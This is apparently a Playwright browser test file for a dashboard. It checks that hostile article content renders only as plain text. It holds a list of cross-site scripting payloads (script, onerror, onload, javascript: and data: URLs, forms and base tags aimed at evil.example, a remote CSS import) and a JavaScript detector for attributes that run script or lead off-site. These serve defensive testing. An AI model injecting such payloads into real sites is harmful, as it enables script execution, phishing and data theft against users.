"""A hostile article, in every field that a page shows: nothing in it runs, nothing is fetched, and all of it can be read."""

import json
import shutil
from collections.abc import Callable, Iterator
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import expect

from dashboard.data import store
from tests.browser.conftest import Visit
from tests.factories import article, event, group, person, stop
from tests.factories import visit as trip

RUNS = (  # each would set window.pwned, ask another host, or be another thing than text
    "<script>window.pwned=1</script>",
    '"><img src=x onerror="window.pwned=1">',
    "'><svg/onload=window.pwned=1>",
    '<a href="javascript:window.pwned=1" onmouseover="window.pwned=1">link</a>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="data:text/html,x"></object>',
    '<style>@import "https://evil.example/x.css";</style></style></textarea></title></script>',
    '<form action="https://evil.example"><button>Log in</button></form><base href="https://evil.example/">',
    "[Log in](https://evil.example) ![x](https://evil.example/x.png) [x](javascript:window.pwned=1) <https://evil.example>",
    "# **bold** $x^2$ :red[r] :material/bug: `code` | a | b | ~~no~~ {name} {0} %s {{7*7}} \\",
    "data:text/html,<script>window.pwned=1</script>",
    "\u202edesrever\u2066 zero\u200bwidth\u200d\ufeff \u2028 \x07\x1b[31m NUL\x00 \ufffe",
)
ALL = " ".join(RUNS)
LONG = (
    "A long word " + "x" * 400 + ". ",
    "And so on, and on, for a megabyte of words. " * 23_000,
    "The last words: <b>the end</b>.",
)
END = {"quote": "the end"}
MORE_THAN_TEXT = """() => {  // what text must not become, in the page and in every shadow of it
  const found = [];
  const search = (root) => root.querySelectorAll('*').forEach((one) => {
    if (one.shadowRoot) search(one.shadowRoot);
    const to = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].map((name) => one.getAttribute(name) ?? '');
    const out = to.some((url) => /^\\s*(javascript:|data:text)/i.test(url) || /^(https?:)?\\/\\/evil/.test(url));
    const honest = one.tagName === 'A' && one.textContent.startsWith('https://evil');  // a bare address may be a link to itself
    const acts = one.srcdoc || one.getAttributeNames().some((name) => name.startsWith('on'));
    if (acts || (out && !honest)) found.push(one.outerHTML);
  });
  search(document);
  return found.map((html) => html.slice(0, 200));
}"""


def said(quote: str, **more: object) -> dict:
    return {"evidence": {"quote": quote, "occurrence": 1} | more}


@pytest.fixture(scope="session")
def address(serve: Callable[..., str], tmp_path_factory: pytest.TempPathFactory) -> str:
    """A server of one hostile article and one harmless."""
    folder = tmp_path_factory.mktemp("hostile") / "data"
    (folder / "articles").mkdir(parents=True)
    for file in ("areas.csv", "people.csv"):
        shutil.copy(store.SHIPPED / file, folder / file)
    fields = {"role": ALL, "organization": ALL, "note": ALL}
    named = [person(name, **fields | said(name)) for name in RUNS[:-1]]
    attendees = [*named, group(ALL, **fields | said(RUNS[-1]))]
    stops = [stop("150400", place=ALL, sites=[ALL, *RUNS[:3]], **said(RUNS[0])), stop(None, place=ALL, **said(RUNS[1]))]
    shared = {"title": ALL, "topic": ALL, "organizer": ALL, "note": ALL, "stops": stops}
    told = {field: {"quote": RUNS[0], "occurrence": 1} for field in ("kind", "dates", "topic", "organizer")}
    made = article(
        event("m1", attendees=attendees, evidence=told, **shared),
        trip("v1", attendees=attendees[:2], evidence=told, **shared),
        event("m2", attendees=[], evidence=told, start=None, end=None, date_precision="unknown", date_basis=None, date_text=ALL)
        | shared,
        id="hostile",
        headline=ALL,
        publisher=ALL,
        text=RUNS,
        note=ALL,
        url="https://example.org/?x='onclick=window.pwned=1",
    )
    made["review"] |= {"by": ALL, "reason": ALL}
    shown = event(attendees=[group(**said("the end"))], evidence=dict.fromkeys(("kind", "dates"), END), stops=[])
    for one in (made, article(shown, id="long", text=LONG)):
        (folder / "articles" / f"{one['id']}.json").write_text(json.dumps(one), "utf-8")
    return serve(folder)


@pytest.fixture
def reader(visit: Callable[..., Visit]) -> Iterator[Visit]:
    """A reader who is told of every dialog; afterwards nothing has run, and the fixture below asks what was fetched."""
    one = visit()
    opened: list[str] = []
    one.page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
    yield one
    assert one.page.evaluate("window.pwned") is None
    assert one.page.evaluate(MORE_THAN_TEXT) == []
    assert opened == []


PAGES = [
    "/",
    f"/?{urlencode({'kind': 'visit', 'organization': ALL})}",
    "/?closer=150400",
    "/articles",
    "/articles?q=script",
    "/articles?article=hostile",
    "/records",
    "/records?table=stops",
    "/records?table=attendees&event=hostile--m1",
    "/records?table=articles",
    "/attendees",
    "/attendees?by=organization",
    f"/attendees?{urlencode({'body': ALL})}",
]
WITHOUT_SCRIPT = ["/r/", "/r/hostile", "/r/hostile--m1", "/r/hostile--v1", "/r/hostile--m2"]


@pytest.mark.parametrize("path", PAGES, ids=lambda path: path[:40])
def test_nothing_in_a_hostile_article_runs_on(reader, path):
    page = reader.open(path)
    expect(page.get_by_role("heading").first).to_be_visible()
    expect(page.get_by_text("it is our fault")).to_have_count(0)


@pytest.mark.parametrize("path", WITHOUT_SCRIPT)
def test_nor_on_the_pages_that_need_no_javascript(reader, path):
    reader.page.goto(reader.address + path)
    expect(reader.page.get_by_role("heading").first).to_be_visible()
    assert "<script>window.pwned=1</script>" in reader.page.inner_text("body")


MARKED = """(prose) => [...prose.querySelectorAll('mark')].reduce((all, piece) => {
  for (const mark of JSON.parse(piece.dataset.marks)) all[mark] = (all[mark] ?? '') + piece.textContent;
  return all;
}, {})"""


def test_the_marked_words_are_the_quote_whatever_is_in_it(reader):
    page = reader.open("/articles?article=hostile&mark=m1.attendees.5")
    lit = page.locator("mark.lit")
    expect(lit.first).to_be_in_viewport()
    assert "".join(lit.all_text_contents()) == RUNS[4]
    marked = page.locator(".prose").evaluate(MARKED)
    assert [marked[f"m1.attendees.{n}"] for n in range(1, len(RUNS) + 1)] == [words.strip() for words in RUNS]


def test_the_end_of_a_megabyte_of_text_is_lit_in_its_place(reader):
    page = reader.open("/articles?article=long&mark=m1.attendees.1")
    expect(page.locator("mark.lit")).to_have_text(["the end"])
    expect(page.locator("mark.lit")).to_be_in_viewport()


@pytest.mark.parametrize("where", ["/?region={}", "/articles?article={}"])
def test_nothing_in_an_address_becomes_more_than_text(reader, where):
    """tests/test_hostile_addresses.py asks for the other parameters."""
    page = reader.open(where.format(quote("[Log in](https://evil.example)")))
    expect(page.get_by_text("is left out").first).to_be_visible()
